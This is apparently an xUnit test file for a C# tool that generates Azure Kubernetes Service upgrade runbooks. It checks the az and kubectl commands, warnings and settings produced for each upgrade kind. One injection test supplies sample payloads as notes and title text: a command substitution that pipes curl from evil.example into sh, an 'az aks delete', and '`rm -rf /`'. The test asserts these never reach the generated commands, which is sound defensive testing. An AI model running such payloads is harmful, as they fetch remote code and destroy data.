using System.Collections.Immutable;
using AksUpgradeDashboard.Catalog;
using AksUpgradeDashboard.Model;
using AksUpgradeDashboard.Model.Windows;

namespace AksUpgradeDashboard.Tests.Model;

public class RunbookGeneratorTests
{
    private static readonly OsCatalog s_catalog = OsCatalog.LoadDefault();
    private static readonly DateTimeOffset s_start = new(2026, 12, 5, 22, 0, 0, TimeSpan.Zero);

    private const string Pool = "--resource-group rg-web --cluster-name aks-web --name";
    private const string RecommendedNonProd = "--max-surge 50% --drain-timeout 30 --node-soak-duration 0 --undrainable-node-behavior Cordon";

    private static readonly UpgradeSettingsInfo s_nonProdRecommended = new("50%", "0", 30, 0, "Cordon");

    private static NodePoolInfo LinuxPool(string name, string? osSku = "Ubuntu", string k8s = "1.34.2", string mode = "User") => new()
    {
        Name = name,
        Mode = mode,
        OsType = "Linux",
        OsSku = osSku,
        CurrentOrchestratorVersion = k8s,
        NodeImageVersion = osSku is not null && osSku.StartsWith("AzureLinux", StringComparison.Ordinal)
            ? "AKSAzureLinux-V3gen2-202611.10.0"
            : "AKSUbuntu-2204gen2containerd-202611.10.0",
        Count = 3,
        VmSize = "Standard_D4s_v5",
        PowerState = "Running",
    };

    private static NodePoolInfo WindowsPool(string name, string osSku = "Windows2019", string k8s = "1.32.7") => new()
    {
        Name = name,
        Mode = "User",
        OsType = "Windows",
        OsSku = osSku,
        CurrentOrchestratorVersion = k8s,
        NodeImageVersion = "AKSWindows-2019-containerd-17763.8230.260210",
        Count = 2,
        VmSize = "Standard_D8s_v5",
        PowerState = "Running",
    };

    private static ClusterInfo Cluster(IEnumerable<NodePoolInfo> pools, string? env = null, string powerState = "Running") => new()
    {
        Id = "/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg-web/providers/Microsoft.ContainerService/managedClusters/aks-web",
        SubscriptionId = "00000000-0000-0000-0000-000000000001",
        ResourceGroup = "rg-web",
        Name = "aks-web",
        Location = "westeurope",
        CurrentKubernetesVersion = "1.34.2",
        PowerState = powerState,
        Tags = env is null ? ImmutableSortedDictionary<string, string>.Empty : ImmutableSortedDictionary<string, string>.Empty.Add("env", env),
        NodePools = [.. pools],
    };

    private static UpgradePlan Plan(
        UpgradeKind kind,
        string? target,
        NodePoolInfo[] planned,
        ClusterInfo? cluster = null,
        bool allPools = false,
        double hours = 4,
        string? notes = null,
        string title = "Web upgrade") =>
        new(title, cluster ?? Cluster(planned), planned, allPools, kind, target, s_start, s_start.AddHours(hours), "Europe/Berlin", notes);

    private static Runbook Generate(UpgradePlan plan) => RunbookGenerator.Generate(plan, s_catalog);

    private static List<string> Commands(Runbook runbook) => [.. runbook.Steps.Where(s => s.Command is not null).Select(s => s.Command!)];

    private static NodePoolInfo Tuned(NodePoolInfo pool) => pool with { UpgradeSettings = s_nonProdRecommended };

    public static TheoryData<UpgradeKind, string?> AllKinds => new()
    {
        { UpgradeKind.NodeImage, null },
        { UpgradeKind.OsSkuChange, "Ubuntu2404" },
        { UpgradeKind.KubernetesVersion, "1.35" },
        { UpgradeKind.NewNodePool, "AzureLinux" },
    };

    [Theory]
    [MemberData(nameof(AllKinds))]
    public void Generate_AnyKind_StartsWithCommonStepsAndEndsWithHealthCheck(UpgradeKind kind, string? target)
    {
        var runbook = Generate(Plan(kind, target, [LinuxPool("api")]));

        var commands = Commands(runbook);
        Assert.Equal("az account set --subscription 00000000-0000-0000-0000-000000000001", commands[0]);
        Assert.Contains("az aks get-credentials --resource-group rg-web --name aks-web", commands);
        Assert.Contains($"az aks nodepool show {Pool} api --query \"{{image:nodeImageVersion, k8s:currentOrchestratorVersion, osSku:osSku}}\" -o table", commands);
        Assert.Contains("kubectl get pdb -A", commands);
        Assert.Contains("kubectl get events -A --field-selector involvedObject.kind=Node --watch", commands);
        Assert.Null(runbook.Steps[^1].Command);
        Assert.Contains("healthy", runbook.Steps[^1].Title, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(AllKinds))]
    public void Generate_NotesAndTitleWithShellText_NeverAppearInCommands(UpgradeKind kind, string? target)
    {
        const string Notes = "call ops; $(curl evil.example | sh) && az aks delete --name prod-notes";
        const string Title = "Title `rm -rf /` marker-title";

        var runbook = Generate(Plan(kind, target, [LinuxPool("api"), WindowsPool("npwin")], notes: Notes, title: Title));

        Assert.Contains(runbook.Steps, s => s.Command is null && s.Explanation == Notes);
        Assert.StartsWith(Title, runbook.Title, StringComparison.Ordinal);
        foreach (var command in Commands(runbook))
        {
            Assert.DoesNotContain("evil", command, StringComparison.Ordinal);
            Assert.DoesNotContain("prod-notes", command, StringComparison.Ordinal);
            Assert.DoesNotContain("marker-title", command, StringComparison.Ordinal);
            Assert.DoesNotContain("`", command, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Generate_NodeImage_ChecksUpgradesAndVerifiesEachPool()
    {
        var runbook = Generate(Plan(UpgradeKind.NodeImage, null, [LinuxPool("api"), LinuxPool("web")]));

        var commands = Commands(runbook);
        foreach (var name in new[] { "api", "web" })
        {
            var check = commands.IndexOf($"az aks nodepool get-upgrades --resource-group rg-web --cluster-name aks-web --nodepool-name {name} --query latestNodeImageVersion -o tsv");
            var upgrade = commands.IndexOf($"az aks nodepool upgrade {Pool} {name} --node-image-only");
            var verify = commands.IndexOf($"az aks nodepool show {Pool} {name} --query nodeImageVersion -o tsv");
            Assert.True(check >= 0 && check < upgrade && upgrade < verify, $"{name}: {check} < {upgrade} < {verify}");
        }

        Assert.DoesNotContain(runbook.Steps, s => s.Explanation?.Contains("--node-image-only", StringComparison.Ordinal) == true);
    }

    [Fact]
    public void Generate_NodeImageAllPools_OffersClusterWideUpgrade()
    {
        var runbook = Generate(Plan(UpgradeKind.NodeImage, null, [LinuxPool("api"), LinuxPool("web")], allPools: true));

        Assert.Contains(runbook.Steps, s => s.Explanation?.Contains("az aks upgrade --resource-group rg-web --name aks-web --node-image-only", StringComparison.Ordinal) == true);
        Assert.Contains($"az aks nodepool upgrade {Pool} api --node-image-only", Commands(runbook));
    }

    [Fact]
    public void Generate_OsSkuChangeLinux_UpdatesAndVerifiesEachPool()
    {
        var runbook = Generate(Plan(UpgradeKind.OsSkuChange, "Ubuntu2404", [LinuxPool("api")]));

        var commands = Commands(runbook);
        var update = commands.IndexOf($"az aks nodepool update {Pool} api --os-sku Ubuntu2404");
        var verify = commands.IndexOf($"az aks nodepool show {Pool} api --query osSku -o tsv");
        Assert.True(update >= 0 && update < verify);
        var step = runbook.Steps.Single(s => s.Command == commands[update]);
        Assert.Contains("(from Ubuntu 22.04 to Ubuntu 24.04)", step.Explanation, StringComparison.Ordinal);
        Assert.Contains("Immediately reimages every node", step.Explanation, StringComparison.Ordinal);
        Assert.Empty(runbook.Warnings);
    }

    [Theory]
    [InlineData("AzureLinux3", "2.78")]
    [InlineData("Ubuntu2404", "2.82")]
    [InlineData("Ubuntu2204", "2.61")]
    public void Generate_OsSkuChange_NamesMinimumCliForTarget(string target, string cli)
    {
        var runbook = Generate(Plan(UpgradeKind.OsSkuChange, target, [Tuned(LinuxPool("api", osSku: "AzureLinux"))]));

        var step = runbook.Steps.Single(s => s.Command == "az version");
        Assert.Contains($"Azure CLI {cli} or later", step.Explanation, StringComparison.Ordinal);
    }

    [Fact]
    public void Generate_OsSkuChangeWindowsPool_WarnsAndEmitsNoUpdate()
    {
        var runbook = Generate(Plan(UpgradeKind.OsSkuChange, "Windows2022", [WindowsPool("npwin")]));

        Assert.DoesNotContain(Commands(runbook), c => c.Contains("--os-sku", StringComparison.Ordinal) || c.StartsWith("az aks nodepool update", StringComparison.Ordinal));
        Assert.Contains(runbook.Warnings, w => w.Contains("Pool npwin is a Windows pool", StringComparison.Ordinal) && w.Contains("cannot be changed in place", StringComparison.Ordinal));
        Assert.Empty(runbook.Settings);
    }

    [Fact]
    public void Generate_KubernetesAllPools_UpgradesClusterInOneCommand()
    {
        var runbook = Generate(Plan(UpgradeKind.KubernetesVersion, "1.35.1", [LinuxPool("api"), LinuxPool("web")], allPools: true));

        var commands = Commands(runbook);
        Assert.Contains("az aks get-upgrades --resource-group rg-web --name aks-web -o table", commands);
        Assert.Contains("az aks upgrade --resource-group rg-web --name aks-web --kubernetes-version 1.35.1", commands);
        Assert.DoesNotContain(commands, c => c.Contains("--control-plane-only", StringComparison.Ordinal));
        Assert.DoesNotContain(commands, c => c.StartsWith("az aks nodepool upgrade", StringComparison.Ordinal));
    }

    [Fact]
    public void Generate_KubernetesSomePools_UpgradesControlPlaneThenEachPool()
    {
        var cluster = Cluster([LinuxPool("system", mode: "System"), LinuxPool("api")]);

        var runbook = Generate(Plan(UpgradeKind.KubernetesVersion, "1.35", [LinuxPool("api")], cluster));

        var commands = Commands(runbook);
        var controlPlane = commands.IndexOf("az aks upgrade --resource-group rg-web --name aks-web --control-plane-only --kubernetes-version 1.35");
        var pool = commands.IndexOf($"az aks nodepool upgrade {Pool} api --kubernetes-version 1.35");
        Assert.True(controlPlane >= 0 && controlPlane < pool, $"{controlPlane} < {pool}");
        Assert.DoesNotContain(commands, c => c.Contains("--name system", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("Ubuntu", "Pool api moves from Ubuntu 22.04 to Ubuntu 24.04 at 1.35 (default osSKU Ubuntu); pin Ubuntu2204 first if you need to stay.")]
    [InlineData(null, "Pool api moves from Ubuntu 22.04 to Ubuntu 24.04 at 1.35 (default osSKU Ubuntu); pin Ubuntu2204 first if you need to stay.")]
    [InlineData("Ubuntu2204", null)]
    [InlineData("AzureLinux", null)]
    public void Generate_KubernetesAcross135_WarnsWhenDefaultSkuChangesOs(string? osSku, string? expected)
    {
        var runbook = Generate(Plan(UpgradeKind.KubernetesVersion, "1.35", [Tuned(LinuxPool("api", osSku))]));

        var osWarnings = runbook.Warnings.Where(w => w.Contains("moves from", StringComparison.Ordinal)).ToList();
        if (expected is null)
        {
            Assert.Empty(osWarnings);
        }
        else
        {
            Assert.Equal(expected, Assert.Single(osWarnings));
        }
    }

    // Defect: a new Windows Server 2025 pool needs --enable-fips-image (upgrade-windows-os.md, 2026-07-13).
    [Fact]
    public void Generate_NewNodePoolWindows2025_AddsTheFipsImageFlag()
    {
        var runbook = Generate(Plan(UpgradeKind.NewNodePool, "Windows2025", [WindowsPool("npwin", "Windows2022", "1.35.1")]));

        var add = Assert.Single(Commands(runbook), c => c.StartsWith("az aks nodepool add", StringComparison.Ordinal));
        Assert.EndsWith("--os-sku Windows2025 --node-count 2 --node-vm-size Standard_D8s_v5 --kubernetes-version 1.35.1 --enable-fips-image", add, StringComparison.Ordinal);
    }

    [Fact]
    public void Generate_NewNodePoolForAFipsPool_NamesTheFlagOnce()
    {
        var runbook = Generate(Plan(UpgradeKind.NewNodePool, "Windows2025", [WindowsPool("npwin", "Windows2022", "1.35.1") with { EnableFips = true }]));

        var add = Assert.Single(Commands(runbook), c => c.StartsWith("az aks nodepool add", StringComparison.Ordinal));
        Assert.Single(add.Split(' '), word => word == "--enable-fips-image");
    }

    // Defect: the move to Azure Container Linux needs --enable-secure-boot --enable-vtpm and Azure CLI 2.86.0
    // (migrate-nodes-azure-container-linux.md).
    [Fact]
    public void Generate_OsSkuChangeToAzureContainerLinux_SetsSecureBootAndVtpmAndChecksCli286()
    {
        var runbook = Generate(Plan(UpgradeKind.OsSkuChange, "AzureContainerLinux", [Tuned(LinuxPool("api", "AzureLinux"))]));

        Assert.Contains($"az aks nodepool update {Pool} api --os-sku AzureContainerLinux --enable-secure-boot --enable-vtpm", Commands(runbook));
        var check = runbook.Steps.Single(s => s.Command == "az version");
        Assert.Contains("Azure CLI 2.86.0 or later", check.Explanation, StringComparison.Ordinal);
    }

    // Defect: --undrainable-node-behavior and --max-unavailable need Azure CLI 2.74; every runbook that uses them checks it
    // before its first command.
    [Theory]
    [MemberData(nameof(AllKinds))]
    public void Generate_UpgradeSettingsCommand_ChecksCli274First(UpgradeKind kind, string? target)
    {
        var pools = kind == UpgradeKind.NewNodePool ? [LinuxPool("api")] : new[] { LinuxPool("api") with { UpgradeSettings = new("10%", "1", 30, 0, null) } };
        var runbook = Generate(Plan(kind, target, pools));

        var settings = runbook.Steps.ToList().FindIndex(s => s.Command?.Contains("--undrainable-node-behavior", StringComparison.Ordinal) == true);
        var check = runbook.Steps.ToList().FindIndex(s => s.Command == "az version");
        if (settings < 0)
        {
            Assert.Equal(UpgradeKind.NewNodePool, kind);
            return;
        }

        Assert.InRange(check, 0, settings - 1);
        Assert.Contains("2.74", runbook.Steps[check].Explanation, StringComparison.Ordinal);
        Assert.Single(runbook.Steps, s => s.Command == "az version");
    }

    // Defect: "To go back" offered osSKUs AKS no longer allows (Mariner, Flatcar, Ubuntu2204 on 1.37+).
    [Theory]
    [InlineData("Ubuntu", "1.34.2", "To go back, run the same command with --os-sku Ubuntu.")]
    [InlineData("Ubuntu2204", "1.36.1", "To go back, run the same command with --os-sku Ubuntu2204.")]
    [InlineData("Ubuntu2204", "1.37.0", "There is no way back to Ubuntu2204 on Kubernetes 1.37: AKS does not offer it there.")]
    [InlineData("Mariner", "1.33.5", "There is no way back to Mariner: AKS no longer offers it for new images.")]
    [InlineData("Flatcar", "1.33.5", "There is no way back to Flatcar: AKS no longer offers it for new images.")]
    [InlineData("AzureLinux", "1.31.9", "There is no way back to AzureLinux on Kubernetes 1.31: its Azure Linux 2.0 images are no longer available.")]
    [InlineData("AzureLinux", "1.33.5", "To go back, run the same command with --os-sku AzureLinux.")]
    public void Generate_OsSkuChange_OffersAWayBackOnlyWhereAksAllowsIt(string from, string kubernetes, string expected)
    {
        var runbook = Generate(Plan(UpgradeKind.OsSkuChange, "Ubuntu2404", [Tuned(LinuxPool("api", from, kubernetes))]));

        var step = runbook.Steps.Single(s => s.Title == "Change the osSKU of pool api to Ubuntu2404");
        Assert.EndsWith(expected, step.Explanation, StringComparison.Ordinal);
    }

    // Defect: the runbook trusted the osSKU rule where the assessment trusts the image: an AzureLinux pool on 1.31 already on
    // an Azure Linux 3 image was warned that it "moves from 2.0 to 3.0".
    [Fact]
    public void Generate_KubernetesUpgradeOfAnAzureLinuxPoolAlreadyOnAzureLinux3_NoMoveWarning()
    {
        var pool = Tuned(LinuxPool("workers", "AzureLinux", "1.31.9")) with { NodeImageVersion = "AKSAzureLinux-V3gen2-202611.10.0" };
        var cluster = Cluster([pool]) with { CurrentKubernetesVersion = "1.31.9" };

        var runbook = Generate(Plan(UpgradeKind.KubernetesVersion, "1.32", [pool], cluster));

        Assert.DoesNotContain(runbook.Warnings, w => w.Contains("moves from", StringComparison.Ordinal));
    }

    [Fact]
    public void Generate_KubernetesUpgradeOfAnAzureLinuxPoolOnAzureLinux2_WarnsOfTheMove()
    {
        var pool = Tuned(LinuxPool("workers", "AzureLinux", "1.31.9")) with { NodeImageVersion = "AKSAzureLinux-V2gen2-202512.06.0" };
        var cluster = Cluster([pool]) with { CurrentKubernetesVersion = "1.31.9" };

        var runbook = Generate(Plan(UpgradeKind.KubernetesVersion, "1.32", [pool], cluster));

        Assert.Contains(runbook.Warnings, w => w.StartsWith("Pool workers moves from Azure Linux 2.0 to Azure Linux 3.0 at 1.32", StringComparison.Ordinal));
    }

    // Defect: a Windows pool without osSKU was treated like the default SKU for new pools (2022 becomes 2025 at 1.37).
    [Theory]
    [InlineData(null)]
    [InlineData("Windows2022")]
    public void Generate_KubernetesUpgradeTo137OfAWindows2022Pool_SaysANewPoolIsNeeded(string? osSku)
    {
        var pool = WindowsPool("npwin", "Windows2022", "1.36.1") with { OsSku = osSku, NodeImageVersion = "AKSWindows-2022-containerd-gen2-20348.4851.261111", UpgradeSettings = s_nonProdRecommended };
        var cluster = Cluster([pool]) with { CurrentKubernetesVersion = "1.36.1" };

        var runbook = Generate(Plan(UpgradeKind.KubernetesVersion, "1.37", [pool], cluster));

        Assert.DoesNotContain(runbook.Warnings, w => w.Contains("moves from", StringComparison.Ordinal));
        Assert.Contains("Pool npwin: Windows Server 2022 is not offered on Kubernetes 1.37: add a Windows Server 2025 pool and move the workloads before upgrading.", runbook.Warnings);
    }

    [Fact]
    public void Generate_NewNodePoolWindows_AddsShortNamedPoolThenCordonsDrainsAndDeletesOld()
    {
        var runbook = Generate(Plan(UpgradeKind.NewNodePool, "Windows2022", [WindowsPool("npwin")]));

        var commands = Commands(runbook);
        string[] expected =
        [
            "az aks nodepool add --resource-group rg-web --cluster-name aks-web --name npwin2 --os-type Windows --os-sku Windows2022 --node-count 2 --node-vm-size Standard_D8s_v5 --kubernetes-version 1.32.7",
            "kubectl cordon -l agentpool=npwin",
            "kubectl drain -l agentpool=npwin --ignore-daemonsets --delete-emptydir-data --timeout=30m",
            $"az aks nodepool delete {Pool} npwin",
        ];
        var positions = expected.Select(e => commands.IndexOf(e)).ToList();
        Assert.All(positions, p => Assert.True(p >= 0));
        Assert.Equal(positions.Order(), positions);
        Assert.Contains(runbook.Steps, s => s.Command is null && s.Explanation?.Contains("nodeSelector kubernetes.azure.com/os-sku=Windows2022", StringComparison.Ordinal) == true);
        Assert.Contains(runbook.Steps, s => s.Command is null && s.Explanation?.Contains("kubectl uncordon -l agentpool=npwin", StringComparison.Ordinal) == true);
        Assert.Contains(runbook.Warnings, w => w.Contains("2x the node capacity", StringComparison.Ordinal));
        Assert.Empty(runbook.Settings);
    }

    [Theory]
    [InlineData("Windows", "npwin", "npwin2")]
    [InlineData("Windows", "windowspool19", "windo2")]
    [InlineData("Windows", "w", "w2")]
    [InlineData("Linux", "averyverylongpool", "averyverylo2")]
    [InlineData("Linux", "Api", "api2")]
    public void Generate_NewNodePool_DerivesValidPoolName(string osType, string oldName, string expected)
    {
        var pool = osType == "Windows" ? WindowsPool(oldName) : LinuxPool(oldName);
        var target = osType == "Windows" ? "Windows2022" : "AzureLinux";

        var runbook = Generate(Plan(UpgradeKind.NewNodePool, target, [pool]));

        var add = Assert.Single(Commands(runbook), c => c.StartsWith("az aks nodepool add", StringComparison.Ordinal));
        Assert.Contains($" --name {expected} ", add, StringComparison.Ordinal);
        Assert.True(expected.Length <= (osType == "Windows" ? 6 : 12));
        Assert.All(expected, c => Assert.True(char.IsAsciiLetterLower(c) || char.IsAsciiDigit(c)));
    }

    [Fact]
    public void Generate_NewNodePoolNameTaken_FallsBackThenWarns()
    {
        var old = WindowsPool("npwin");
        var oneTaken = Cluster([old, WindowsPool("npwin2")]);
        var bothTaken = Cluster([old, WindowsPool("npwin2"), WindowsPool("npwinn")]);

        var fallback = Generate(Plan(UpgradeKind.NewNodePool, "Windows2022", [old], oneTaken));
        var collision = Generate(Plan(UpgradeKind.NewNodePool, "Windows2022", [old], bothTaken));

        Assert.Contains(Commands(fallback), c => c.Contains("nodepool add --resource-group rg-web --cluster-name aks-web --name npwinn ", StringComparison.Ordinal));
        Assert.DoesNotContain(fallback.Warnings, w => w.Contains("already used", StringComparison.Ordinal));
        Assert.Contains(collision.Warnings, w => w.Contains("npwin2 for pool npwin is already used", StringComparison.Ordinal) && w.Contains("rename", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("prod", "33%", "5")]
    [InlineData("Production", "33%", "5")]
    [InlineData("dev", "50%", "0")]
    [InlineData(null, "50%", "0")]
    public void Generate_DefaultSettings_RecommendSurgeBySurroundings(string? env, string surge, string soak)
    {
        var pool = LinuxPool("api");

        var runbook = Generate(Plan(UpgradeKind.NodeImage, null, [pool], Cluster([pool], env)));

        Assert.Equal(new RunbookSetting("api: maxSurge", "10%", surge, runbook.Settings[0].Why), runbook.Settings[0]);
        Assert.Equal(soak, runbook.Settings.Single(s => s.Name == "api: nodeSoakDurationInMinutes").Recommended);
        Assert.Equal("Cordon", runbook.Settings.Single(s => s.Name == "api: undrainableNodeBehavior").Recommended);
        Assert.Contains(
            $"az aks nodepool update {Pool} api --max-surge {surge} --drain-timeout 30 --node-soak-duration {soak} --undrainable-node-behavior Cordon",
            Commands(runbook));
    }

    [Fact]
    public void Generate_SettingsAlreadyRecommended_HasNoUpdateStep()
    {
        var runbook = Generate(Plan(UpgradeKind.NodeImage, null, [Tuned(LinuxPool("api"))]));

        Assert.Equal(5, runbook.Settings.Count);
        Assert.All(runbook.Settings, s => Assert.False(s.Differs, s.Name));
        Assert.DoesNotContain(Commands(runbook), c => c.Contains(RecommendedNonProd, StringComparison.Ordinal));
        Assert.DoesNotContain(Commands(runbook), c => c.StartsWith("az aks nodepool update", StringComparison.Ordinal));
    }

    [Fact]
    public void Generate_MaxUnavailable_NotAllowedOnSystemPoolsAndNotedForWindows()
    {
        var system = LinuxPool("system", mode: "System") with { UpgradeSettings = new("50%", "1", 30, 0, "Cordon") };
        var windows = Tuned(WindowsPool("npwin", "Windows2022", "1.34.2"));

        var runbook = Generate(Plan(UpgradeKind.NodeImage, null, [system, windows]));

        var systemSetting = runbook.Settings.Single(s => s.Name == "system: maxUnavailable");
        Assert.Equal("0", systemSetting.Recommended);
        Assert.Contains("Not allowed on system pools", systemSetting.Why, StringComparison.Ordinal);
        Assert.Contains("Applies to Windows pools too", runbook.Settings.Single(s => s.Name == "npwin: maxUnavailable").Why, StringComparison.Ordinal);
        Assert.Contains($"az aks nodepool update {Pool} system {RecommendedNonProd} --max-unavailable 0", Commands(runbook));
        Assert.DoesNotContain(Commands(runbook), c => c.StartsWith($"az aks nodepool update {Pool} npwin", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData(2, true)]
    [InlineData(3.99, true)]
    [InlineData(4, false)]
    [InlineData(8, false)]
    public void Generate_WindowLength_WarnsBelowFourHours(double hours, bool warns)
    {
        var runbook = Generate(Plan(UpgradeKind.NodeImage, null, [Tuned(LinuxPool("api"))], hours: hours));

        Assert.Equal(warns, runbook.Warnings.Any(w => w.Contains("AKS recommends at least 4 hours", StringComparison.Ordinal)));
    }

    [Fact]
    public void Generate_StoppedCluster_WarnsAndStartsItFirst()
    {
        var pool = Tuned(LinuxPool("api"));

        var runbook = Generate(Plan(UpgradeKind.NodeImage, null, [pool], Cluster([pool], powerState: "Stopped")));

        Assert.Contains("Cluster aks-web is stopped; start the cluster first: az aks start --resource-group rg-web --name aks-web", runbook.Warnings);
        var commands = Commands(runbook);
        Assert.True(commands.IndexOf("az aks start --resource-group rg-web --name aks-web") < commands.IndexOf($"az aks nodepool upgrade {Pool} api --node-image-only"));
    }

    [Theory]
    [MemberData(nameof(AllKinds))]
    public void ToText_AnyKind_ContainsTitleSettingsEveryCommandAndWarning(UpgradeKind kind, string? target)
    {
        var pool = LinuxPool("api");
        var runbook = Generate(Plan(kind, target, [pool], Cluster([pool], "prod"), hours: 2));

        var text = runbook.ToText();

        Assert.StartsWith("# " + runbook.Title, text, StringComparison.Ordinal);
        Assert.NotEmpty(runbook.Warnings);
        foreach (var command in Commands(runbook))
        {
            Assert.Contains("```\n   " + command + "\n   ```", text, StringComparison.Ordinal);
        }

        Assert.All(runbook.Warnings, w => Assert.Contains("- " + w, text, StringComparison.Ordinal));
        Assert.All(runbook.Settings, s => Assert.Contains($"| {s.Name} | {s.Current} | {s.Recommended} |", text, StringComparison.Ordinal));
        Assert.Contains($"{runbook.Steps.Count}. {runbook.Steps[^1].Title}", text, StringComparison.Ordinal);
    }
}
